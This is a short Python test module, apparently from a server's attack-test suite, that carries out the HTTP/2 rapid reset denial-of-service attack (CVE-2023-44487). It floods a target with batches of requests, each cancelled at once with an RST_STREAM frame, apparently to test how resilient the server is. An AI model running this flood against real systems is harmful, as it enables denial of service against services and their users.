"""HTTP/2 rapid reset (CVE-2023-44487): calls that are taken back in the same breath."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator

from hyperframe.frame import RstStreamFrame

from tests.attack.target import Target
from tests.attack.wire import block_of, call, flood, headers_of, message, serialized

CALLS = 200_000
PEERS = 4
AT_ONCE = 100  # calls in one write
CANCEL = 8


async def attack(target: Target) -> Counter[str]:
    block, body = block_of(headers_of("WhoAmI")), message(b"")

    def batch(ids: Iterator[int]) -> bytes:
        return b"".join(
            call(stream, block, body) + serialized(RstStreamFrame(stream, CANCEL))
            for stream, _ in zip(ids, range(AT_ONCE), strict=False)
        )

    return await flood(target, batch, batches=target.scaled(CALLS) // PEERS // AT_ONCE, peers=PEERS)
